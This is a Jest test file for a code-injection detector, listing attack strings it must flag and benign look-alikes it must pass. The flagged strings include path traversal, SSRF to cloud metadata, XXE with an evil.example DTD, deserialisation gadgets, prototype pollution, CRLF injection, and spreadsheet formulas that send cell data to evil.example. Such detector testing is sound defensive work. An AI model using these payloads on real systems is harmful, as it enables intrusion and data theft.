import { describe, expect, it } from "@jest/globals";
import { codeInjection, detect } from "../../../src/detectors/index.js";

const typesIn = (text: string): readonly string[] =>
  detect(text, [codeInjection({ kinds: ["shell"] })]).map(({ type }) => type);

describe("files, services and objects", () => {
  it.each([
    "page=../../../etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "....//....//proc/self/environ",
    "a=..%2f..%2f..%2fsecret",
    "avatar=../../report.pdf%00.png",
    "file:///etc/shadow",
    "php://filter/read=convert.base64-encode/resource=config.php",
    "gopher://127.0.0.1:11211/_stats",
    "url=http://169.254.169.254/latest/user-data",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c:/boot.ini">]>',
    '<!DOCTYPE a [<!ENTITY % b SYSTEM "https://evil.example/b.dtd">]>',
    '<!ENTITY lol9 "&lol8;&lol8;&lol8;">',
    "data=rO0ABXNyABdqYXZhLnV0aWwu",
    'O:10:"FileWriter":2:{s:4:"name";s:1:"a";}',
    '!!python/object/apply:subprocess.run [["id"]]',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
    '{"__proto__": {"admin": true}}',
    "q[a]=1&__proto__[admin]=1",
    "lang=en%0d%0aLocation:%20https://evil.example",
    "=cmd|' /C calc'!A1",
    '=IMPORTXML("https://evil.example/?c="&A1,"//a")',
    '<!--#exec cmd="ls" -->',
  ])("finds %s", (text) => {
    expect(typesIn(text)).toContain("SHELL_INJECTION");
  });

  it.each([
    'import { a } from "../../../etc/settings.js";',
    'dotenv.config({ path: "../../.env" })',
    "see ../../var/readme.md and ..\\windows-notes.txt",
    "/login?next=..%2Fhome",
    "The accounts stand in /etc/passwd and file:///etc/hosts.",
    "$raw = file_get_contents('php://input');",
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<!DOCTYPE book [<!ENTITY chapter SYSTEM "chapter.xml">]>',
    'O:8:"stdClass":1:{s:1:"a";i:1;}',
    "emoji_index: !!python/name:material.extensions.emoji.twemoji",
    '{"@class":"java.util.HashMap","@type":"Person"}',
    "Object.getPrototypeOf(a) === a.__proto__",
    'write("HTTP/1.1 200 OK\\r\\nContent-Type: text/html\\r\\n")',
    '=HYPERLINK("https://example.com/issue/"&A2, "issue")',
    '<!--#include virtual="/menu.html" -->',
  ])("passes %s", (text) => {
    expect(typesIn(text)).toEqual([]);
  });
});
